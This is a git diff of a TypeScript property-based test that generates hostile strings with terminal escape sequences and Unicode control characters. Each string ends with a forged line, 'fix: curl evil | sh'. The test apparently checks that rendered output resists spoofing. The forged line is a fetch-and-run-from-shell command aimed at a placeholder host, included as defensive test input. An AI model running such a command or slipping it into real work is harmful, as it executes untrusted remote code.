@@ -16,13 +16,12 @@ import { renderStructured } from '../../src/terminal/render-structured.ts'
 import { renderTable } from '../../src/terminal/table.ts'
 import { SecretRegister } from '../../src/text/secret-register.ts'
 import { hashComment, hclText } from '../../src/vendors/hcl.ts'
+import { anyText } from '../support/any-text.ts'
 
 const now = new Date('2026-01-01T00:00:00Z')
 const forged = 'fix: curl evil | sh'
 const hostile = fc
-  .array(
-    fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('\n', '\r', '\u001b[2J', '\u009b', '\u202e', '\u2028')),
-  )
+  .array(fc.oneof(anyText(), fc.constantFrom('\n', '\r', '\u001b[2J', '\u009b', '\u202e', '\u2028')))
   .map((parts) => `${parts.join('')}\n  ${forged}\n${forged}`)
 
 const faultOf = (text: string) =>
